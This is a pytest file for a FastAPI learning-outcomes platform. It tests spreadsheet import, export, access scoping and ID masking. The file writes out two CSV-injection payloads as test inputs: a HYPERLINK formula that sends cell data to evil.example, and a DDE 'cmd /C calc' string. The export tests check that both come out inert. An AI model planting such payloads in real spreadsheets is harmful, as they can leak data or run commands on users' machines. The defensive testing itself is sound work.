"""Imports, the template and exports over HTTP (API and the web upload page): grants and denials."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.conftest import token_for
from tests.factories import PASSWORD, World, national_id
from tests.spreadsheets import csv_bytes, outcome_row, xlsx_bytes

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'


def upload(client: TestClient, headers: dict[str, str], name: str, data: bytes, media: str = CSV):
    return client.post("/api/v1/imports/outcomes", files={"file": (name, data, media)}, headers=headers)


def test_import_needs_a_token(client: TestClient, world: World) -> None:
    r = upload(client, {}, "a.csv", csv_bytes([outcome_row(world, 1)]))
    assert r.status_code == 401
    assert client.get("/api/v1/templates/outcomes.xlsx").status_code == 401
    assert client.get("/api/v1/exports/outcomes").status_code == 401


def test_import_ok_then_problems_as_422(client: TestClient, world: World) -> None:
    staff = token_for(client, "school_staff")
    r = upload(client, staff, "成果.xlsx", xlsx_bytes([outcome_row(world, 1), outcome_row(world, 2)]), XLSX)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["ok"] and (body["outcomes_created"], body["accounts_created"]) == (2, 2)
    again = upload(client, staff, "成果.xlsx", xlsx_bytes([outcome_row(world, 1)]), XLSX)
    assert again.json()["rows_skipped"] == 1 and again.json()["outcomes_created"] == 0
    rows = [
        outcome_row(world, 3, 学时="-2"),
        outcome_row(world, 4, 颁发机构=world.certifier.name, 成果类型="职业技能等级证书", 等级="初级"),
    ]
    bad = upload(client, staff, "坏.csv", csv_bytes(rows, encoding="gbk"))
    assert bad.status_code == 422
    assert bad.headers["content-type"].startswith("application/problem+json")
    problem = bad.json()
    assert problem["title"] == "导入文件有误，未导入任何数据"
    assert problem["filename"] == "坏.csv" and problem["ok"] is False
    assert [(p["row"], p["column"]) for p in problem["problems"]] == [(2, "学时"), (3, "颁发机构")]
    assert problem["problems"][1]["message"] == f"无权以“{world.certifier.name}”的名义记录学习成果"


def test_wrong_type_and_too_large_are_problems(client: TestClient, world: World) -> None:
    staff = token_for(client, "school_staff")
    r = upload(client, staff, "a.pdf", b"%PDF-1.7", "application/pdf")
    assert r.status_code == 415
    assert r.headers["content-type"].startswith("application/problem+json")
    assert r.json()["title"] == "文件“a.pdf”不是 .xlsx 或 .csv 文件"
    client.app.state.platform.settings.upload_max_bytes = 1000  # type: ignore[attr-defined]
    big = upload(client, staff, "big.csv", csv_bytes([outcome_row(world, n) for n in range(20)]))
    assert big.status_code == 413
    assert "超过 1000 字节的上限" in big.json()["title"]


def test_template_download(client: TestClient, world: World) -> None:
    r = client.get("/api/v1/templates/outcomes.xlsx", headers=token_for(client, "certifier"))
    assert r.status_code == 200 and r.headers["content-type"] == XLSX
    assert "attachment" in r.headers["content-disposition"]
    assert load_workbook(io.BytesIO(r.content)).sheetnames == ["学习成果", "填写说明"]


def _seed(client: TestClient, world: World) -> None:
    """Learners of the 广东 school (one named like a formula), a 湖南 learner, a certificate."""
    rows = [outcome_row(world, 1, 姓名=EVIL, 成果名称="@SUM(1+1)*cmd|' /C calc'!A0"), outcome_row(world, 2)]
    assert upload(client, token_for(client, "school_staff"), "gd.csv", csv_bytes(rows)).status_code == 200
    far = outcome_row(world, 3, 身份证号=national_id(9, region="430102"), 颁发机构=world.far_school.name)
    assert upload(client, token_for(client, "far_staff"), "hn.csv", csv_bytes([far])).status_code == 200
    cert = outcome_row(
        world, 2, 颁发机构=world.certifier.name, 成果类型="职业技能等级证书", 等级="中级", 学时=""
    )
    assert upload(client, token_for(client, "certifier"), "c.csv", csv_bytes([cert])).status_code == 200


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads the Chinese right
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_exports_are_scoped_masked_and_inert(client: TestClient, world: World) -> None:
    _seed(client, world)
    staff = client.get("/api/v1/exports/outcomes?format=csv", headers=token_for(client, "school_staff"))
    assert staff.status_code == 200 and staff.headers["content-type"].startswith(CSV)
    rows = _csv_rows(staff.content)
    # its own learners' outcomes, including the certificate another issuer gave one of them
    assert sorted(r["颁发机构"] for r in rows) == sorted([world.school.name] * 2 + [world.certifier.name])
    assert rows[0]["姓名"] == "'" + EVIL and rows[0]["成果名称"].startswith("'@SUM")
    for secret in (national_id(101), national_id(102)):
        assert secret not in staff.text
    assert all("*" in r["证件号码（脱敏）"] for r in rows)

    cert = _csv_rows(client.get("/api/v1/exports/outcomes", headers=token_for(client, "certifier")).content)
    assert [r["颁发机构"] for r in cert] == [world.certifier.name]  # what it issued, nothing else
    hn = _csv_rows(client.get("/api/v1/exports/outcomes", headers=token_for(client, "hn_admin")).content)
    assert [r["颁发机构"] for r in hn] == [world.far_school.name]
    nat = _csv_rows(client.get("/api/v1/exports/outcomes", headers=token_for(client, "national")).content)
    assert len(nat) == 4

    other = client.get(
        f"/api/v1/exports/outcomes?institution_id={world.school.id}", headers=token_for(client, "other_staff")
    )
    assert other.status_code == 403
    assert client.get("/api/v1/exports/outcomes", headers=token_for(client, "liming")).status_code == 403

    xlsx = client.get("/api/v1/exports/outcomes?format=xlsx", headers=token_for(client, "school_staff"))
    assert xlsx.headers["content-type"] == XLSX
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    evil = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert evil.data_type == "s" and evil.value == "'" + EVIL


def _signin(client: TestClient, username: str) -> None:
    r = client.post("/signin", data={"username": username, "password": PASSWORD}, follow_redirects=False)
    assert r.status_code == 303


def test_upload_page_renders_imports_and_lists_problems(client: TestClient, world: World) -> None:
    assert client.get("/institution/import", follow_redirects=False).status_code == 303  # sign in first
    _signin(client, "school_staff")
    page = client.get("/institution/import")
    assert page.status_code == 200
    assert 'enctype="multipart/form-data"' in page.text and "/institution/import/template.xlsx" in page.text
    assert client.get("/institution/import/template.xlsx").headers["content-type"] == XLSX
    ok = client.post(
        "/institution/import", files={"file": ("a.csv", csv_bytes([outcome_row(world, 1)]), CSV)}
    )
    assert ok.status_code == 200
    assert 'data-testid="outcomes-created">1<' in ok.text
    bad_rows = [outcome_row(world, 2, 成绩="101"), outcome_row(world, 3, 成果类型="讲座")]
    bad = client.post("/institution/import", files={"file": ("b.csv", csv_bytes(bad_rows), CSV)})
    assert bad.status_code == 422
    assert "导入文件有误，未导入任何数据" in bad.text
    assert "<td>2</td><td>成绩</td>" in bad.text and "<td>3</td><td>成果类型</td>" in bad.text
    english = client.post("/institution/import?lang=en", files={"file": ("b.csv", csv_bytes(bad_rows), CSV)})
    assert "nothing was imported" in english.text and "<td>Score / grade</td>" in english.text
    wrong_en = client.post("/institution/import", files={"file": ("c.txt", b"x", "text/plain")})
    assert wrong_en.status_code == 422 and "File “c.txt” is not an .xlsx or .csv file" in wrong_en.text
    wrong = client.post("/institution/import?lang=zh", files={"file": ("c.txt", b"x", "text/plain")})
    assert wrong.status_code == 422 and "不是 .xlsx 或 .csv 文件" in wrong.text


def test_upload_page_is_refused_to_learners(client: TestClient, world: World) -> None:
    _signin(client, "liming")
    assert client.get("/institution/import").status_code == 403
    r = client.post("/institution/import", files={"file": ("a.csv", csv_bytes([outcome_row(world, 1)]), CSV)})
    assert r.status_code == 403 and "当前角色无权导入学习成果" in r.text
    assert client.get("/institution/import/template.xlsx").status_code == 403
